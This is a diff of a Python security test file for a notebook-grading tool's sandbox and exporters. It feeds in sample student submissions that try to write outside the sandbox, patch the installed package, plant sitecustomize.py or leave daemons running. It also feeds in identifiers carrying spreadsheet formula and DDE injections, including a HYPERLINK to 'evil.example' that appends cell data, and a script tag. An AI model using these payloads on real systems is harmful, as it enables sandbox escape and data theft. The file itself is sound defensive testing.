@@ -26,7 +26,7 @@ from grading_support import bwrap_or_skip
 
 from quizkit.quiz.loading import load_bank
 from quizkit.grading import Limits, grade_submissions
-from quizkit.grading.backends import PACKAGE
+from quizkit.sandbox.backends import PACKAGE
 from quizkit.grading.class_analysis import ClassAnalysis
 from quizkit.grading.exporters.base import ExportOptions
 from quizkit.grading.exporters.registry import write_exports
@@ -69,7 +69,7 @@ CODE_ATTACKS: dict[str, tuple[str, str]] = {
     "write via a shell": ("act", "import subprocess\ndef double(x):\n    subprocess.run(['sh', '-c', 'echo pwned > ' + {host!r} + '-shell'])\n    return 0\n"),
     "write via dir_fd": ("act", "import os\ndef double(x):\n    d = os.open({host_dir!r}, os.O_RDONLY)\n    fd = os.open('escaped-dirfd', os.O_WRONLY | os.O_CREAT, dir_fd=d)\n    os.write(fd, b'pwned')\n    return 0\n"),
     "sqlite attach": ("act", "import sqlite3\ndef double(x):\n    c = sqlite3.connect(':memory:')\n    c.execute(\"ATTACH DATABASE '\" + {host!r} + \"-sqlite' AS x\")\n    c.execute('CREATE TABLE x.t (a)')\n    return 0\n"),
-    "patch the quizkit package": ("act", "def double(x):\n    open('/opt/quizkit/quizkit/grading/judge.py', 'a').write('\\n# pwned\\n')\n    return 0\n"),
+    "patch the quizkit package": ("act", "def double(x):\n    open('/opt/quizkit/quizkit/quiz/judge.py', 'a').write('\\n# pwned\\n')\n    return 0\n"),
     "plant sitecustomize": ("act", "def double(x):\n    open({site!r} + '/sitecustomize.py', 'w').write('print(1)')\n    return 0\n"),
     "sleeper left behind": ("act", "import subprocess\ndef double(x):\n    subprocess.Popen(['sleep', '300', {marker!r}], start_new_session=True)\n    return 0\n"),
     "double-forked daemon": ("act", "import os, time\ndef double(x):\n    if os.fork() == 0:\n        os.setsid()\n        if os.fork() == 0:\n            os.execvp('sleep', ['sleep', '301', {marker!r}])\n        os._exit(0)\n    time.sleep(0.2)\n    return 0\n"),
@@ -136,7 +136,7 @@ def marker_processes() -> list[str]:
             ns = os.readlink(f"/proc/{pid}/ns/pid")
         except OSError:
             continue
-        if MARKER in cmd or (ns != own_ns and ("_runner.py" in cmd or "bwrap" in cmd)):
+        if MARKER in cmd or (ns != own_ns and ("runner.py" in cmd or "bwrap" in cmd)):
             left.append(f"{pid}: {cmd}")
     return left
 
@@ -227,13 +227,13 @@ def batch_stoppers(subs: Path, victim: Path) -> dict[str, tuple[str, Path]]:
 def injections(subs: Path) -> dict[str, tuple[str, Path]]:
     """Spreadsheet formulas and markup in ids, file names and statuses."""
     out = {}
-    for n, sid in enumerate(['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+    for sid in (['=HYPERLINK("http:evil.example?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
                              "\tTAB", "\rCR", "<script>alert(1)</script>"]):
         nb = notebook(sid, WRONG)
         stray = json.loads(json.dumps(nb["cells"][1]["outputs"][0]))
         stray["data"][MIME]["question"] = "no-such-question"  # a problem, so the report lists this student
         nb["cells"][1]["outputs"].append(stray)
-        out[f"id {sid!r}"] = ("inject", write(subs / f"inject-{n}.ipynb", nb))
+        out[f"id {sid!r}"] = ("inject", write(subs / f"{sid.replace('/', '_')}.ipynb", nb))  # the path is the id
     named = subs / "=cmd.ipynb"
     named.write_text("{")  # invalid: its status starts with the file name
     out["formula file name"] = ("inject", named)
@@ -268,7 +268,7 @@ def test_no_canary_in_any_output(battle):
 
 def test_nothing_written_outside_the_sandbox_and_no_process_left(battle):
     assert list(battle["host"].iterdir()) == []
-    assert not list(PACKAGE.rglob("*pwned*")) and "pwned" not in (PACKAGE / "grading" / "judge.py").read_text()
+    assert not list(PACKAGE.rglob("*pwned*")) and "pwned" not in (PACKAGE / "quiz" / "judge.py").read_text()
     assert not (Path(__import__("sysconfig").get_paths()["purelib"]) / "sitecustomize.py").exists()
     assert battle["connected"] == []
     new_tmp = set(os.listdir("/tmp")) - battle["tmp_before"]
@@ -306,22 +306,22 @@ def test_each_attack_gets_a_clear_status_or_reason(battle):
     assert "returned a Yes object" in reason("always-equal object")
     assert "expected -8, got 6" in reason("forge the result and exit")
     assert "without a readable report" in reason("forge a passed status")
-    assert "Read-only file system" in reason("patch the quizkit package")
+    # read-only mount; as root the unprivileged sandbox uid is refused before that
+    assert "Read-only file system" in reason("patch the quizkit package") or "Permission denied" in reason("patch the quizkit package")
 
 
 def test_outputs_are_written_whatever_the_text(battle, tmp_path):
     book = battle["book"]
     written = write_exports(book, ["csv", "json", "html"], ExportOptions(tmp_path / "gradebook.csv", tmp_path / "report.html")).paths
     data = json.loads(written[1].read_text(encoding="utf-8"))
-    ids = {s["student"] for s in data["students"]}
-    assert "\\ud800evil" in ids  # the lone surrogate, escaped
+    assert any("\\ud800evil" in s["status"] for s in data["students"])  # the notebook's id, escaped, shown only
     assert any("\\udce9tudiant-\\udcff" in s["source"] for s in data["students"])
-    assert any(s["student"] == '=HYPERLINK("http://evil.example/?"&A1,"open")' for s in data["students"])  # JSON: raw
+    assert any(s["student"] == '=HYPERLINK("http:evil.example?"&A1,"open")' for s in data["students"])  # JSON: raw
     rows = list(csv.reader(io.StringIO(written[0].read_text(encoding="utf-8"))))
     cells = [cell for row in rows for cell in row]
     assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
-    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")" in cells and "'@SUM(A1:A9)" in cells
-    assert "'-2+3" in cells and "'\tTAB" in cells
+    assert "'=HYPERLINK(\"http:evil.example?\"&A1,\"open\")" in cells and "'@SUM(A1:A9)" in cells
+    assert "'-2+3" in cells and "?TAB" in cells  # a tab in an id is shown as ?
     assert any(c.startswith("'=cmd.ipynb: invalid notebook") for c in cells)
     html = written[2].read_text(encoding="utf-8")
     assert "<script>" not in html and "&lt;script&gt;" in html
